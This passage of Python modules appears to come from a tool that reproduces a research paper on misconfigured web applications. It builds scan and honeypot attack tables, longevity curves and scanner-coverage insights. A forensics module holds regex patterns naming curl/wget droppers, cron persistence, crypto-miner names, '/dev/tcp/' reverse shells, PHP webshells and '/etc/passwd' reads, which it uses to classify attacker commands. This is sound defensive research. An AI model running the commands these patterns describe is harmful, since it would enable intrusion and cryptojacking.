        metadata = geo.lookup(IPv4Address(attack.source_ip))
        as_attacks[(metadata.asn, metadata.provider)] += 1
        as_countries.setdefault(metadata.asn, set()).add(metadata.country)
    table = Table(
        "Table 8: top attack-origin autonomous systems",
        ("AS", "Provider", "# Attacks", "# Countries"),
    )
    for (asn, provider), count in as_attacks.most_common(5):
        table.add_row(asn, provider, count, len(as_countries[asn]))
    return table


def table9(
    report: ScanReport,
    census: Census,
    attacks: list[Attack],
    scanner_detections: dict[str, set[str]],
) -> Table:
    """Table 9: the combined summary of all four studies."""
    hosts_weighted: dict[str, float] = {}
    mav_counts: dict[str, int] = {}
    for finding in report.findings.values():
        weight = census.weight_of(finding.ip)
        for slug, observation in finding.observations.items():
            hosts_weighted[slug] = hosts_weighted.get(slug, 0.0) + weight
            if observation.vulnerable:
                mav_counts[slug] = mav_counts.get(slug, 0) + 1
    per_app_attacks = attacks_per_app(attacks)

    table = Table(
        "Table 9: summary (defaults, prevalence, attacks, defender coverage)",
        ("Type", "App", "Default", "Vulnerable", "Attacks", "Defend"),
    )
    for spec in in_scope_apps():
        mavs = mav_counts.get(spec.slug, 0)
        hosts = hosts_weighted.get(spec.slug, 0.0)
        pct = 100.0 * mavs / hosts if hosts else 0.0
        detectors = sorted(
            name for name, slugs in scanner_detections.items() if spec.slug in slugs
        )
        table.add_row(
            spec.category.short,
            spec.name,
            spec.posture.symbol,
            f"{mavs} ({pct:.1f}%)",
            per_app_attacks.get(spec.slug, 0),
            "&".join(detectors) if detectors else "none",
        )
    return table


def scanner_table(scanner_detections: dict[str, set[str]],
                  scanner_informational: dict[str, set[str]]) -> Table:
    """Section 5's result: what each commercial scanner found."""
    table = Table(
        "Defender awareness: commercial scanner coverage of the 18 MAVs",
        ("Scanner", "Detected", "# Detected", "Informational only"),
    )
    for name in sorted(scanner_detections):
        detected = sorted(scanner_detections[name])
        informational = sorted(
            scanner_informational.get(name, set()) - set(detected)
        )
        table.add_row(
            name,
            ", ".join(detected),
            len(detected),
            ", ".join(informational) if informational else "-",
        )
    return table
