"""Attack forensics: classify what the attackers were after (§4.3/RQ4).

The paper manually analysed a sample of compromised machines and "found
them mostly to be abused for cryptojacking", highlighting three cases: a
Monero miner that kills competitors and persists via cron, the Kinsing
campaign spreading from Docker to Hadoop, and a vigilante shutting the
server down.  This module automates that triage: commands from the audit
log are classified by behavioural markers, and campaign-level summaries
are derived per attacker cluster.
"""

from __future__ import annotations

import enum
import re
from collections import Counter
from dataclasses import dataclass

from repro.analysis.attacks import Attack, AttackerCluster
from repro.util.tables import Table


class AttackPurpose(enum.Enum):
    CRYPTOJACKING = "cryptojacking"
    WEBSHELL = "webshell"
    BOTNET = "botnet"
    VIGILANTE = "vigilante"
    RECONNAISSANCE = "reconnaissance"
    UNKNOWN = "unknown"


@dataclass(frozen=True)
class CommandTraits:
    """Behavioural markers extracted from one command."""

    purpose: AttackPurpose
    downloads_dropper: bool
    persists: bool
    kills_competitors: bool


_DOWNLOAD_RE = re.compile(r"\b(curl|wget)\b")
_PERSIST_RE = re.compile(r"\b(crontab|cron|systemd|@reboot)\b")
_KILL_RE = re.compile(r"\b(pkill|kill(all)?)[\w-]*\b")
_MINER_RE = re.compile(r"\b(miner|xmrig|monero|kinsing|pool)\b", re.IGNORECASE)
_SHELL_RE = re.compile(r"<\?php|system\(|/dev/tcp/")
_SHUTDOWN_RE = re.compile(r"\bshutdown\b|\bhalt\b|\bpoweroff\b")
_RECON_RE = re.compile(r"\buname\b|\bid\b|\bnproc\b|/etc/passwd")


def classify_command(command: str) -> CommandTraits:
    """Classify one executed command by its observable behaviour."""
    downloads = bool(_DOWNLOAD_RE.search(command))
    persists = bool(_PERSIST_RE.search(command))
    kills = bool(_KILL_RE.search(command))

    if _SHUTDOWN_RE.search(command):
        purpose = AttackPurpose.VIGILANTE
    elif _MINER_RE.search(command) or (downloads and persists):
        purpose = AttackPurpose.CRYPTOJACKING
    elif "/dev/tcp/" in command:
        purpose = AttackPurpose.BOTNET
    elif _SHELL_RE.search(command):
        purpose = AttackPurpose.WEBSHELL
    elif downloads:
        purpose = AttackPurpose.CRYPTOJACKING  # dropper: assume the common case
    elif _RECON_RE.search(command):
        purpose = AttackPurpose.RECONNAISSANCE
    else:
        purpose = AttackPurpose.UNKNOWN
    return CommandTraits(purpose, downloads, persists, kills)


def classify_attack(attack: Attack) -> AttackPurpose:
    """An attack's purpose: the most severe purpose among its commands."""
    severity = {
        AttackPurpose.CRYPTOJACKING: 5,
        AttackPurpose.BOTNET: 4,
        AttackPurpose.WEBSHELL: 3,
        AttackPurpose.VIGILANTE: 2,
        AttackPurpose.RECONNAISSANCE: 1,
        AttackPurpose.UNKNOWN: 0,
    }
    purposes = [classify_command(c).purpose for c in attack.commands]
    return max(purposes, key=lambda p: severity[p]) if purposes else AttackPurpose.UNKNOWN


def purpose_breakdown(attacks: list[Attack]) -> dict[AttackPurpose, int]:
    counts: Counter[AttackPurpose] = Counter(classify_attack(a) for a in attacks)
    return dict(counts)


@dataclass(frozen=True)
class CampaignProfile:
    """Per-attacker-cluster behavioural summary (the Kinsing-style view)."""

    label: str
    purpose: AttackPurpose
    attack_count: int
    applications: tuple[str, ...]
    persists: bool
    kills_competitors: bool

    @property
    def is_cross_application_campaign(self) -> bool:
        return len(self.applications) >= 2


def profile_campaigns(
    attacks: list[Attack], clusters: list[AttackerCluster]
) -> list[CampaignProfile]:
    """Summarise each attacker cluster's behaviour."""
    profiles = []
    for cluster in clusters:
        own = [
            a for a in attacks
            if a.source_ip in cluster.ips and a.fingerprints & cluster.fingerprints
        ]
        commands = [c for a in own for c in a.commands]
        traits = [classify_command(c) for c in commands]
        purposes = Counter(t.purpose for t in traits)
        profiles.append(
            CampaignProfile(
                label=cluster.label,
                purpose=purposes.most_common(1)[0][0] if purposes else AttackPurpose.UNKNOWN,
                attack_count=len(own),
                applications=tuple(sorted(cluster.honeypots)),
                persists=any(t.persists for t in traits),
                kills_competitors=any(t.kills_competitors for t in traits),
            )
        )
    return profiles


def forensics_table(attacks: list[Attack]) -> Table:
    """RQ4's purpose breakdown as a table."""
    table = Table(
        "Attack purposes (automated triage of the audit log)",
        ("Purpose", "# Attacks", "Share"),
    )
    breakdown = purpose_breakdown(attacks)
    total = sum(breakdown.values()) or 1
    for purpose, count in sorted(breakdown.items(), key=lambda kv: -kv[1]):
        table.add_row(purpose.value, count, f"{count / total:.0%}")
    return table
