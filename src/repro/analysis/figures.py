"""Data series behind the paper's Figures 1-4.

The benchmarks print these as text (the paper's figures are plots; our
harness regenerates the underlying series and summary statistics so the
shapes can be compared).
"""

from __future__ import annotations

from dataclasses import dataclass, field

import networkx as nx

from repro.analysis.attacks import Attack, AttackerCluster, unique_attacks
from repro.analysis.longevity import HostStatus, ObservationLog
from repro.analysis.versions import BIN_LABELS, VersionedObservation, binned_counts
from repro.apps.catalog import in_scope_apps
from repro.util.clock import DAY


# ---------------------------------------------------------------------------
# Figure 1: release-date distribution, secure vs vulnerable
# ---------------------------------------------------------------------------

@dataclass
class Figure1:
    """Seven-bin release-date histograms."""

    overall_secure: dict[str, int]
    overall_vulnerable: dict[str, int]
    #: per-app detail for the paper's two highlighted products
    detail: dict[str, dict[str, dict[str, int]]] = field(default_factory=dict)

    @classmethod
    def build(
        cls,
        observations: list[VersionedObservation],
        detail_slugs: tuple[str, ...] = ("jupyter-notebook", "hadoop"),
    ) -> "Figure1":
        figure = cls(
            overall_secure=binned_counts(observations, vulnerable=False),
            overall_vulnerable=binned_counts(observations, vulnerable=True),
        )
        for slug in detail_slugs:
            figure.detail[slug] = {
                "secure": binned_counts(observations, slug=slug, vulnerable=False),
                "vulnerable": binned_counts(observations, slug=slug, vulnerable=True),
            }
        return figure

    def render(self) -> str:
        lines = ["Figure 1: software release dates (7 bins), secure vs vulnerable"]
        header = "group/bin".ljust(28) + "".join(label.rjust(8) for label in BIN_LABELS)
        lines.append(header)

        def row(label: str, counts: dict[str, int]) -> str:
            return label.ljust(28) + "".join(
                str(counts.get(bin_label, 0)).rjust(8) for bin_label in BIN_LABELS
            )

        lines.append(row("all/secure", self.overall_secure))
        lines.append(row("all/vulnerable", self.overall_vulnerable))
        for slug, groups in self.detail.items():
            lines.append(row(f"{slug}/secure", groups["secure"]))
            lines.append(row(f"{slug}/vulnerable", groups["vulnerable"]))
        return "\n".join(lines)


# ---------------------------------------------------------------------------
# Figure 2: longevity curves
# ---------------------------------------------------------------------------

@dataclass
class Figure2:
    """Vulnerable / fixed / offline curves, by app and by default posture."""

    log: ObservationLog

    def curves_by_app(self, status: HostStatus) -> dict[str, list[tuple[float, float]]]:
        out = {}
        for spec in in_scope_apps():
            subset = self.log.subset_by_app(spec.slug)
            if subset:
                out[spec.slug] = self.log.series(status, subset).points
        return out

    def curves_by_default(
        self, status: HostStatus
    ) -> dict[str, list[tuple[float, float]]]:
        return {
            "insecure-by-default": self.log.series(
                status, self.log.subset_by_default(True)
            ).points,
            "explicitly-modified": self.log.series(
                status, self.log.subset_by_default(False)
            ).points,
        }

    def curves_by_category(
        self, status: HostStatus
    ) -> dict[str, list[tuple[float, float]]]:
        """Per-category curves (the paper contrasts CI vs notebooks)."""
        out = {}
        for category in ("CI", "CMS", "CM", "NB", "CP"):
            slugs = {
                spec.slug for spec in in_scope_apps()
                if spec.category.short == category
            }
            subset = self.log.subset_by_category(slugs)
            if subset:
                out[category] = self.log.series(status, subset).points
        return out

    def render(self) -> str:
        lines = ["Figure 2: longevity of detected MAVs (fraction over days)"]
        marks = [0, 1, 3, 7, 14, 21, 28]
        header = "series".ljust(34) + "".join(f"d{m}".rjust(8) for m in marks)
        lines.append(header)

        def row(label: str, points: list[tuple[float, float]]) -> str:
            series_values = []
            for mark in marks:
                value = 0.0
                for when, fraction in points:
                    if when <= mark * DAY:
                        value = fraction
                series_values.append(f"{value:.2f}".rjust(8))
            return label.ljust(34) + "".join(series_values)

        for status in HostStatus:
            lines.append(f"-- {status.value} --")
            lines.append(row("all", self.log.series(status).points))
            for label, points in self.curves_by_default(status).items():
                lines.append(row(label, points))
            for label, points in self.curves_by_category(status).items():
                lines.append(row(f"category:{label}", points))
        return "\n".join(lines)


# ---------------------------------------------------------------------------
# Figure 3: attack timeline
# ---------------------------------------------------------------------------

@dataclass
class Figure3:
    """Per-application attack timeline with new/repeated flags."""

    #: slug -> list of (time_seconds, is_new_payload)
    timeline: dict[str, list[tuple[float, bool]]]

    @classmethod
    def build(cls, attacks: list[Attack]) -> "Figure3":
        new_ids = {id(a) for a in unique_attacks(attacks)}
        timeline: dict[str, list[tuple[float, bool]]] = {}
        for attack in sorted(attacks, key=lambda a: a.start):
            timeline.setdefault(attack.honeypot, []).append(
                (attack.start, id(attack) in new_ids)
            )
        return cls(timeline)

    def daily_histogram(self, slug: str, days: int = 28) -> list[int]:
        counts = [0] * days
        for when, _is_new in self.timeline.get(slug, ()):
            index = min(days - 1, int(when // DAY))
            counts[index] += 1
        return counts

    def render(self) -> str:
        lines = ["Figure 3: attack timeline (attacks per day; * = any new payload that day)"]
        for slug in sorted(self.timeline):
            histogram = self.daily_histogram(slug)
            new_days = {
                int(when // DAY) for when, is_new in self.timeline[slug] if is_new
            }
            cells = [
                f"{count}{'*' if day in new_days else ''}".rjust(6)
                for day, count in enumerate(histogram)
            ]
            lines.append(slug.ljust(18) + "".join(cells))
        return "\n".join(lines)


# ---------------------------------------------------------------------------
# Figure 4: attacker <-> application bipartite graph
# ---------------------------------------------------------------------------

@dataclass
class Figure4:
    """Cross-application attackers with their IPs and targets."""

    graph: nx.Graph
    multi_app_clusters: list[AttackerCluster]

    @classmethod
    def build(cls, clusters: list[AttackerCluster]) -> "Figure4":
        multi = [c for c in clusters if c.is_multi_app]
        graph = nx.Graph()
        for cluster in multi:
            graph.add_node(cluster.label, kind="attacker")
            for slug in cluster.honeypots:
                graph.add_node(f"app:{slug}", kind="application")
                graph.add_edge(cluster.label, f"app:{slug}")
            for ip in cluster.ips:
                graph.add_node(f"ip:{ip}", kind="ip")
                graph.add_edge(cluster.label, f"ip:{ip}")
        return cls(graph, multi)

    @property
    def total_multi_app_attacks(self) -> int:
        return sum(c.attack_count for c in self.multi_app_clusters)

    def render(self) -> str:
        lines = [
            "Figure 4: attackers hitting >= 2 applications "
            f"({len(self.multi_app_clusters)} attackers, "
            f"{self.total_multi_app_attacks} attacks)"
        ]
        for cluster in self.multi_app_clusters:
            apps = ", ".join(sorted(cluster.honeypots))
            lines.append(
                f"{cluster.label}: {cluster.attack_count} attacks, "
                f"{len(cluster.ips)} IPs -> {apps}"
            )
        return "\n".join(lines)
