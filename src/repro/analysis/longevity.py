"""Longevity analysis of vulnerable hosts (RQ3 / Figure 2).

The observer re-scans the vulnerable population every three hours for
four weeks; each sweep classifies every host as still *vulnerable*,
*fixed* (reachable, MAV gone), or *offline* (no response).  This module
stores those sweeps and derives the survival curves of Figure 2 — overall,
per application, and split by whether the MAV was an insecure default or
an explicit modification.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field


class HostStatus(enum.Enum):
    VULNERABLE = "vulnerable"
    FIXED = "fixed"
    OFFLINE = "offline"


@dataclass(frozen=True)
class ObservedHost:
    """Immutable facts about one observed host (from the initial scan)."""

    ip_value: int
    slug: str
    #: was the MAV an insecure default (vs explicit misconfiguration)?
    insecure_by_default: bool
    version: str | None = None


@dataclass
class ObservationLog:
    """All sweeps of the four-week observation."""

    hosts: dict[int, ObservedHost] = field(default_factory=dict)
    #: sweep time -> {ip_value: status}
    sweeps: dict[float, dict[int, HostStatus]] = field(default_factory=dict)

    def register_host(self, host: ObservedHost) -> None:
        self.hosts[host.ip_value] = host

    def record_sweep(self, time: float, statuses: dict[int, HostStatus]) -> None:
        missing = set(self.hosts) - set(statuses)
        if missing:
            raise ValueError(f"sweep at {time} missing {len(missing)} hosts")
        self.sweeps[time] = dict(statuses)

    @property
    def times(self) -> list[float]:
        return sorted(self.sweeps)

    def final_counts(self) -> dict[HostStatus, int]:
        if not self.sweeps:
            return {status: 0 for status in HostStatus}
        last = self.sweeps[self.times[-1]]
        counts = {status: 0 for status in HostStatus}
        for status in last.values():
            counts[status] += 1
        return counts

    def status_fraction(
        self, time: float, status: HostStatus, subset: set[int] | None = None
    ) -> float:
        sweep = self.sweeps[time]
        population = subset if subset is not None else set(self.hosts)
        if not population:
            return 0.0
        hits = sum(1 for ip in population if sweep.get(ip) == status)
        return hits / len(population)

    # -- subsets for Figure 2's grouping -----------------------------------

    def subset_by_app(self, slug: str) -> set[int]:
        return {ip for ip, host in self.hosts.items() if host.slug == slug}

    def subset_by_default(self, insecure_by_default: bool) -> set[int]:
        return {
            ip for ip, host in self.hosts.items()
            if host.insecure_by_default == insecure_by_default
        }

    def subset_by_category(self, category_slugs: set[str]) -> set[int]:
        return {ip for ip, host in self.hosts.items() if host.slug in category_slugs}

    def series(
        self, status: HostStatus, subset: set[int] | None = None
    ) -> "LongevitySeries":
        points = [
            (time, self.status_fraction(time, status, subset))
            for time in self.times
        ]
        return LongevitySeries(status, points)

    # -- summary statistics -------------------------------------------------------

    def still_vulnerable_after(self, seconds: float) -> float:
        """Fraction of hosts still vulnerable at the first sweep >= t."""
        for time in self.times:
            if time >= seconds:
                return self.status_fraction(time, HostStatus.VULNERABLE)
        return self.status_fraction(self.times[-1], HostStatus.VULNERABLE)

    def mean_vulnerable_duration_by_app(self) -> dict[str, float]:
        """Average time each app's hosts stayed observed-vulnerable."""
        durations: dict[str, list[float]] = {}
        times = self.times
        if not times:
            return {}
        step = times[1] - times[0] if len(times) > 1 else 0.0
        for ip, host in self.hosts.items():
            total = 0.0
            for time in times:
                if self.sweeps[time].get(ip) == HostStatus.VULNERABLE:
                    total += step
            durations.setdefault(host.slug, []).append(total)
        return {
            slug: sum(values) / len(values)
            for slug, values in durations.items()
            if values
        }


@dataclass(frozen=True)
class LongevitySeries:
    """One curve of Figure 2: fraction-in-status over time."""

    status: HostStatus
    points: list[tuple[float, float]]

    def at(self, time: float) -> float:
        best = 0.0
        for when, value in self.points:
            if when <= time:
                best = value
            else:
                break
        return best

    def final(self) -> float:
        return self.points[-1][1] if self.points else 0.0
