"""Statistical validation of the measured distributions.

The paper's claims are qualitative ("a small group of attackers performs
most attacks", "Hadoop is constantly attacked"); this module provides the
quantitative backing: concentration indices for the attacker volume
distribution and goodness-of-fit tests for attack arrival processes.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.analysis.attacks import Attack, AttackerCluster


def gini_coefficient(values: list[float]) -> float:
    """Gini index of a non-negative distribution (0 = equal, 1 = one
    actor owns everything).  Used on per-attacker attack counts."""
    cleaned = sorted(v for v in values if v >= 0)
    if not cleaned:
        raise ValueError("gini of empty distribution")
    total = sum(cleaned)
    if total == 0:
        return 0.0
    n = len(cleaned)
    cumulative = 0.0
    weighted = 0.0
    for index, value in enumerate(cleaned, start=1):
        cumulative += value
        weighted += cumulative
    # Standard formula: G = (n + 1 - 2 * sum(cum_i)/total) / n
    return (n + 1 - 2 * weighted / total) / n


def attacker_concentration(clusters: list[AttackerCluster]) -> float:
    """Gini of the per-attacker attack volumes."""
    return gini_coefficient([float(c.attack_count) for c in clusters])


def top_k_share(values: list[float], k: int) -> float:
    """Share of the total held by the k largest values."""
    if not values:
        return 0.0
    ordered = sorted(values, reverse=True)
    total = sum(ordered)
    return sum(ordered[:k]) / total if total else 0.0


@dataclass(frozen=True)
class ArrivalFit:
    """Exponential goodness-of-fit for inter-arrival times."""

    mean_gap: float
    ks_statistic: float
    p_value: float

    @property
    def plausibly_poisson(self) -> bool:
        """Cannot reject the exponential-gap (Poisson process) model."""
        return self.p_value > 0.01


def interarrival_fit(attacks: list[Attack], honeypot: str) -> ArrivalFit:
    """KS-test the honeypot's attack gaps against an exponential law.

    A near-Poisson arrival process is what "attackers regularly scan the
    IPv4 range" predicts for a heavily-targeted honeypot like Hadoop.
    """
    from scipy import stats

    times = sorted(a.start for a in attacks if a.honeypot == honeypot)
    gaps = [b - a for a, b in zip(times, times[1:]) if b > a]
    if len(gaps) < 8:
        raise ValueError(f"too few attacks on {honeypot} for a fit")
    mean_gap = sum(gaps) / len(gaps)
    statistic, p_value = stats.kstest(gaps, "expon", args=(0, mean_gap))
    return ArrivalFit(mean_gap=mean_gap, ks_statistic=float(statistic),
                      p_value=float(p_value))


def survival_halflife(points: list[tuple[float, float]]) -> float | None:
    """Time at which a survival curve first drops below 0.5, or None."""
    for when, fraction in points:
        if fraction < 0.5:
            return when
    return None
