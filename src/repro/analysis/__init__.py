"""Analysis layer: turns raw measurements into the paper's tables/figures.

* :mod:`repro.analysis.attacks` — attack grouping, uniqueness, attacker
  clustering (RQ4-6).
* :mod:`repro.analysis.longevity` — survival analysis of vulnerable
  hosts (RQ3 / Figure 2).
* :mod:`repro.analysis.versions` — release-date statistics (RQ2 /
  Figure 1).
* :mod:`repro.analysis.tables` — Tables 1-9.
* :mod:`repro.analysis.figures` — data series behind Figures 1-4.
* :mod:`repro.analysis.report` — plain-text rendering.
"""

from repro.analysis.attacks import (
    Attack,
    AttackerCluster,
    cluster_attackers,
    group_attacks,
    unique_attacks,
)
from repro.analysis.longevity import HostStatus, LongevitySeries, ObservationLog

__all__ = [
    "Attack",
    "AttackerCluster",
    "cluster_attackers",
    "group_attacks",
    "unique_attacks",
    "HostStatus",
    "LongevitySeries",
    "ObservationLog",
]
