"""Programmatic versions of the paper's §6.1 insights.

The discussion section condenses the four studies into four lessons;
each function here computes the corresponding quantitative statement
from the measurement artefacts, so the lessons can be *checked* rather
than narrated:

1. **Defaults are important** — insecure-by-default products dominate
   the high-MAV-rate regime.
2. **Changing defaults is effective, but slow** — for changed-default
   software the MAV mass sits in the pre-change long tail.
3. **Defenders are behind** — scanners miss applications that are
   already under active attack.
4. **There is no consensus on MAVs** — the scanners' detection sets
   barely overlap.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.analysis.attacks import Attack, attacks_per_app
from repro.analysis.versions import VersionedObservation, old_version_mav_share
from repro.apps.catalog import DefaultPosture, app_by_slug, in_scope_apps
from repro.core.pipeline import ScanReport
from repro.net.population import Census


@dataclass(frozen=True)
class DefaultsInsight:
    """Lesson 1: MAV rate by default posture."""

    #: slugs with >= threshold vulnerable share, excluding installer CMSes
    high_rate_apps: tuple[str, ...]
    #: those of them that are insecure by default
    insecure_by_default: tuple[str, ...]

    @property
    def holds(self) -> bool:
        """All high-rate apps are insecure by default (the paper's claim)."""
        return set(self.high_rate_apps) == set(self.insecure_by_default)


def defaults_insight(
    report: ScanReport, census: Census, threshold: float = 0.05
) -> DefaultsInsight:
    hosts_weighted: dict[str, float] = {}
    mav_counts: dict[str, int] = {}
    for finding in report.findings.values():
        weight = census.weight_of(finding.ip)
        for slug, observation in finding.observations.items():
            hosts_weighted[slug] = hosts_weighted.get(slug, 0.0) + weight
            if observation.vulnerable:
                mav_counts[slug] = mav_counts.get(slug, 0) + 1

    high_rate = []
    for spec in in_scope_apps():
        if spec.vuln_kind.value == "Install":
            continue  # short-lived installers are the paper's exception
        hosts = hosts_weighted.get(spec.slug, 0.0)
        if hosts and mav_counts.get(spec.slug, 0) / hosts >= threshold:
            high_rate.append(spec.slug)
    insecure = [
        slug for slug in high_rate
        if app_by_slug(slug).posture is DefaultPosture.INSECURE
    ]
    return DefaultsInsight(tuple(high_rate), tuple(insecure))


@dataclass(frozen=True)
class ChangedDefaultsInsight:
    """Lesson 2: the long tail behind a changed default."""

    slug: str
    old_version_mav_share: float
    remaining_mavs: int

    @property
    def change_was_effective(self) -> bool:
        """Most remaining MAVs run pre-change releases."""
        return self.old_version_mav_share > 0.5

    @property
    def tail_still_exists(self) -> bool:
        """...but years later the problem has not fully disappeared."""
        return self.remaining_mavs > 0


def changed_defaults_insight(
    observations: list[VersionedObservation],
    slug: str = "jupyter-notebook",
) -> ChangedDefaultsInsight:
    spec = app_by_slug(slug)
    if spec.secured_since is None:
        raise ValueError(f"{slug} never changed its default")
    share = old_version_mav_share(observations, slug, spec.secured_since)
    remaining = sum(1 for o in observations if o.slug == slug and o.vulnerable)
    return ChangedDefaultsInsight(slug, share, remaining)


@dataclass(frozen=True)
class DefenderGapInsight:
    """Lesson 3: attacked-but-undetected applications."""

    attacked: frozenset[str]
    detected_by_any_scanner: frozenset[str]

    @property
    def attacked_but_undetected(self) -> frozenset[str]:
        return self.attacked - self.detected_by_any_scanner

    @property
    def defenders_are_behind(self) -> bool:
        return bool(self.attacked_but_undetected)


def defender_gap_insight(
    attacks: list[Attack], scanner_detections: dict[str, set[str]]
) -> DefenderGapInsight:
    attacked = frozenset(attacks_per_app(attacks))
    detected = frozenset().union(*scanner_detections.values()) if scanner_detections else frozenset()
    return DefenderGapInsight(attacked, detected)


@dataclass(frozen=True)
class ConsensusInsight:
    """Lesson 4: scanner agreement via Jaccard overlap."""

    overlap: frozenset[str]
    union: frozenset[str]

    @property
    def jaccard(self) -> float:
        return len(self.overlap) / len(self.union) if self.union else 0.0

    @property
    def no_consensus(self) -> bool:
        return self.jaccard < 0.5


def consensus_insight(scanner_detections: dict[str, set[str]]) -> ConsensusInsight:
    sets = list(scanner_detections.values())
    if not sets:
        return ConsensusInsight(frozenset(), frozenset())
    overlap = frozenset(set.intersection(*sets))
    union = frozenset(set.union(*sets))
    return ConsensusInsight(overlap, union)
