"""Report rendering: assemble every analysis artefact into one document.

Two output styles:

* :func:`render_text` — the plain-text report the CLI prints (tables and
  figure series, in the paper's order);
* :func:`render_markdown` — the same content with markdown headings and
  code fences, ready to commit next to the paper for side-by-side
  comparison.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from repro.analysis.forensics import forensics_table
from repro.analysis.insights import (
    changed_defaults_insight,
    consensus_insight,
    defaults_insight,
    defender_gap_insight,
)
from repro.analysis.tables import table1
from repro.analysis.versions import to_versioned

if TYPE_CHECKING:
    from repro.experiments.full_study import FullStudy


def _sections(study: "FullStudy") -> list[tuple[str, str]]:
    """(title, body) pairs in the paper's presentation order."""
    return [
        ("Table 1 — manual investigation", table1().render()),
        ("Table 2 — open ports and responses", study.scan.table2().render()),
        ("Table 3 — AWE prevalence and MAVs", study.scan.table3().render()),
        ("Table 4 — vulnerable-host geography", study.scan.table4().render()),
        ("Figure 1 — release dates", study.scan.figure1().render()),
        ("Figure 2 — longevity", study.observer.figure2().render()),
        ("Table 5 — attacks per application", study.honeypots.table5().render()),
        ("Table 6 — time until compromise", study.honeypots.table6().render()),
        ("Figure 3 — attack timeline", study.honeypots.figure3().render()),
        ("Figure 4 — cross-application attackers", study.honeypots.figure4().render()),
        ("Table 7 — attack-origin countries", study.honeypots.table7().render()),
        ("Table 8 — attack-origin ASes", study.honeypots.table8().render()),
        ("Attack forensics (RQ4)", forensics_table(study.honeypots.attacks).render()),
        ("Section 5 — defender awareness", study.defenders.table().render()),
        ("Table 9 — summary", study.table9().render()),
        ("Section 6.1 — insights", render_insights(study)),
        ("Scan telemetry — stage funnel",
         study.scan.telemetry.funnel_table().render()),
        ("Coverage confidence — degraded-operation accounting",
         study.scan.report.coverage.render()),
    ]


def render_insights(study: "FullStudy") -> str:
    """The four §6.1 lessons, computed rather than narrated."""
    lines = []

    lesson1 = defaults_insight(study.scan.report, study.scan.census)
    lines.append(
        "1. Defaults are important: high-MAV-rate apps "
        f"{sorted(lesson1.high_rate_apps)} — all insecure by default: "
        f"{'HOLDS' if lesson1.holds else 'VIOLATED'}"
    )

    observations = to_versioned(study.scan.report.observations())
    try:
        lesson2 = changed_defaults_insight(observations)
        lines.append(
            "2. Changing defaults is effective but slow: "
            f"{lesson2.old_version_mav_share:.0%} of Jupyter Notebook MAVs run "
            f"pre-4.3 releases, yet {lesson2.remaining_mavs} vulnerable "
            "instances remain years later"
        )
    except Exception:
        lines.append("2. Changing defaults: insufficient data at this scale")

    lesson3 = defender_gap_insight(
        study.honeypots.attacks, study.defenders.detections()
    )
    lines.append(
        "3. Defenders are behind: attacked but undetected by every scanner: "
        f"{sorted(lesson3.attacked_but_undetected)}"
    )

    lesson4 = consensus_insight(study.defenders.detections())
    lines.append(
        "4. No consensus on MAVs: scanner overlap "
        f"{sorted(lesson4.overlap)} (Jaccard {lesson4.jaccard:.2f})"
    )
    return "\n".join(lines)


def render_text(study: "FullStudy") -> str:
    parts = [
        "=" * 72,
        "No Keys to the Kingdom Required — reproduction report",
        "=" * 72,
    ]
    for title, body in _sections(study):
        parts.extend(["", body])
    parts.extend(["", study._headline_numbers()])
    return "\n".join(parts)


def render_markdown(study: "FullStudy") -> str:
    parts = ["# No Keys to the Kingdom Required — reproduction report", ""]
    for title, body in _sections(study):
        parts.extend([f"## {title}", "", "```", body, "```", ""])
    parts.extend(["## Headline numbers", "", "```", study._headline_numbers(), "```"])
    return "\n".join(parts)
