"""Release-date statistics (RQ2 / Figure 1).

The paper compares software ages via release dates, not version strings:
"about 65% of the discovered versions had been updated or newly installed
within the last 6 months", CMSes are newest, control panels oldest, and
vulnerable instances skew old — dramatically so for Jupyter Notebook,
where the pre-4.3 long tail holds 80% of the MAVs.
"""

from __future__ import annotations

from dataclasses import dataclass
from statistics import median

from repro.apps.catalog import app_by_slug
from repro.apps.versions import RELEASE_DB, SCAN_DATE
from repro.util.errors import ConfigError

#: Figure 1's seven release-date bins.
BIN_LABELS = ("<2016", "2016", "2017", "2018", "2019", "2020", "2021")


def bin_label(date: float) -> str:
    year = int(date)
    if year < 2016:
        return "<2016"
    if year > 2021:
        return "2021"
    return str(year)


@dataclass(frozen=True)
class VersionedObservation:
    """One fingerprinted deployment."""

    slug: str
    version: str
    vulnerable: bool

    @property
    def release_date(self) -> float:
        return RELEASE_DB.release_date(self.slug, self.version)


def to_versioned(observations) -> list[VersionedObservation]:
    """Convert pipeline observations with fingerprints; skips unversioned."""
    out = []
    for obs in observations:
        if obs.version is None:
            continue
        if not RELEASE_DB.is_known_version(obs.slug, obs.version):
            continue
        out.append(VersionedObservation(obs.slug, obs.version, obs.vulnerable))
    return out


def binned_counts(
    observations: list[VersionedObservation],
    slug: str | None = None,
    vulnerable: bool | None = None,
) -> dict[str, int]:
    """Histogram over the seven bins, with optional filters."""
    counts = {label: 0 for label in BIN_LABELS}
    for obs in observations:
        if slug is not None and obs.slug != slug:
            continue
        if vulnerable is not None and obs.vulnerable != vulnerable:
            continue
        counts[bin_label(obs.release_date)] += 1
    return counts


def fraction_within_months(
    observations: list[VersionedObservation], months: float, as_of: float = SCAN_DATE
) -> float:
    """Fraction of deployments released within the last N months."""
    if not observations:
        return 0.0
    cutoff = as_of - months / 12.0
    recent = sum(1 for obs in observations if obs.release_date >= cutoff)
    return recent / len(observations)


def median_release_date_by_category(
    observations: list[VersionedObservation],
) -> dict[str, float]:
    """Median release date per application category (RQ2)."""
    by_category: dict[str, list[float]] = {}
    for obs in observations:
        category = app_by_slug(obs.slug).category.short
        by_category.setdefault(category, []).append(obs.release_date)
    return {cat: median(dates) for cat, dates in by_category.items()}


def old_version_mav_share(
    observations: list[VersionedObservation], slug: str, cutoff_version: str
) -> float:
    """Share of an app's MAVs that run releases older than ``cutoff``.

    The paper's Jupyter Notebook insight: releases before the 4.3
    security fix hold ~80% of all vulnerable notebooks.
    """
    cutoff = RELEASE_DB.release_date(slug, cutoff_version)
    vulnerable = [o for o in observations if o.slug == slug and o.vulnerable]
    if not vulnerable:
        raise ConfigError(f"no vulnerable {slug} observations")
    old = sum(1 for o in vulnerable if o.release_date < cutoff)
    return old / len(vulnerable)
