"""Seeded randomness with named, independent streams.

A single global RNG makes simulations fragile: adding one draw in the host
population generator would perturb the attacker model.  Instead, every
subsystem asks :class:`SeededStreams` for a *named* stream; each stream is
an independent ``random.Random`` seeded from the master seed and the name,
so subsystems evolve independently and runs stay reproducible.
"""

